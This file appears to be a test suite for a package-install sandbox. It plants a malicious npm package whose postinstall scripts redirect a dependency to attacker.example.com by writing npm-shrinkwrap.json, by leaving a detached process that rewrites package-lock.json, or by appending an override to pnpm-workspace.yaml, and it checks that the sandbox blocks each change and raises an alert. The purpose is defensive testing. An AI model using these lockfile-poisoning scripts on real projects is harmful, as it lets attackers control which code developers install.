"""A package's script that writes what the package manager resolves by: which packages the next install takes
from where is nobody's to say but the manager's."""

import json
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
from harness import test  # noqa: E402
from honest import FIXTURES  # noqa: E402
from npm_registry import NpmRegistry  # noqa: E402

FACTS = {"rows": "A109", "stops": "commit, attribution", "event": "change.protected"}

SHRINKWRAP = """
const fs = require('fs'), to = process.env.INIT_CWD + '/npm-shrinkwrap.json';
fs.writeFileSync(to, JSON.stringify({name: 'app', lockfileVersion: 3, packages: {
  'node_modules/quiet': {version: '1.0.0', resolved: 'https://attacker.example.com/quiet.tgz'}}}));
"""

# Left behind: waits until npm has written the lockfile, and changes where a package comes from.
REWRITE = """
const fs = require('fs'), file = process.env.INIT_CWD + '/package-lock.json';
for (const end = Date.now() + 20000; Date.now() < end;) {
  let text = '';
  try { text = fs.readFileSync(file, 'utf8'); } catch {}
  if (!text.includes('"node_modules/evil"') || !text.trim().endsWith('}')) continue;
  fs.writeFileSync(file, text.replace(/http[^"]*quiet[^"]*/, 'https://attacker.example.com/quiet.tgz'));
  break;
}
"""
LEAVE = ("require('child_process').spawn(process.execPath, ['rewrite.js'], "
         "{detached: true, stdio: 'ignore'}).unref();")


class Scene:
    def __init__(self, t, script):
        self.t = t
        self.registry = NpmRegistry()
        self.registry.add("quiet", "1.0.0", {"index.js": ""})
        self.registry.add("evil", "1.0.0", {"script.js": script, "rewrite.js": REWRITE},
                          scripts={"postinstall": "node script.js"}, dependencies={"quiet": "1.0.0"})
        self.env = {"npm_config_registry": self.registry.url()}
        self.options = ["--allow-host", self.registry.url().split("/")[2]]
        self.reset()

    def reset(self):
        for name in ("package-lock.json", "npm-shrinkwrap.json"):
            (self.t.project / name).unlink(missing_ok=True)
        self.t.bare("rm", "-rf", "node_modules")
        self.t.write("package.json", json.dumps({"name": "app", "version": "1.0.0", "private": True}))

    def text(self, name):
        path = self.t.project / name
        return path.read_text() if path.exists() else ""

    def attack(self, name):
        """Bare, where it succeeds, and sandboxed: the alert about the file."""
        t = self.t
        t.succeeded(t.bare("npm", "install", "evil", env=self.env))
        t.bare("sleep", "0.5")
        t.contains(self.text(name), "attacker.example.com", "control")
        self.reset()
        result = t.succeeded(t.sandbox("npm", "install", "evil", env=self.env, options=self.options))
        t.lacks(self.text(name), "attacker.example.com", result)
        alerts = [e for e in result.of_type("change.protected") if e["details"]["path"] == name]
        t.equal(len(alerts), 1, result.events)
        return alerts[0]


@test(time_limit=120)
def another_lockfile(t):
    """npm-shrinkwrap.json by a script, which npm prefers to package-lock.json from then on: an alert that names it"""
    alert = Scene(t, SHRINKWRAP).attack("npm-shrinkwrap.json")
    t.equal(alert["actor"]["package"], "evil")


@test(time_limit=120)
def a_process_left_running(t):
    """a process that a script leaves changes the lockfile when npm has written it: an alert, and nothing committed"""
    alert = Scene(t, LEAVE).attack("package-lock.json")
    t.contains(json.dumps(alert), "evil")


def workspace_of_pnpm(manager):
    def body(t):
        scene = Scene(t, "const fs = require('fs'), file = process.env.INIT_CWD + '/pnpm-workspace.yaml'\n"
                      "fs.appendFileSync(file, 'overrides:\\n  quiet: https://attacker.example.com/quiet.tgz\\n')\n")
        env = scene.env | {"pnpm_config_registry": scene.registry.url(), "INIT_CWD": str(t.project),
                           "PATH": f"{FIXTURES / manager / 'prefix'}/bin:{t.env['PATH']}"}
        before = "onlyBuiltDependencies: [evil]\nallowBuilds:\n  evil: true\nsideEffectsCache: false\n"
        t.write("pnpm-workspace.yaml", before)
        t.bare("pnpm", "add", "evil", env=env)
        t.contains(scene.text("pnpm-workspace.yaml"), "attacker.example.com", "control")
        t.bare("rm", "-rf", "node_modules", "pnpm-lock.yaml")
        scene.reset()
        t.write("pnpm-workspace.yaml", before)
        result = t.sandbox("pnpm", "add", "evil", env=env, options=scene.options)
        t.equal(scene.text("pnpm-workspace.yaml"), before, result)
        alerts = [e for e in result.of_type("change.protected") if e["details"]["path"] == "pnpm-workspace.yaml"]
        t.equal([e["actor"]["package"] for e in alerts], ["evil"], result)

    body.__doc__ = f"{manager}: a script adds to pnpm-workspace.yaml, which says where packages come from, while pnpm may write there: an alert that names it"
    test(time_limit=120)(body)


for one in ("pnpm10", "pnpm12"):
    workspace_of_pnpm(one)
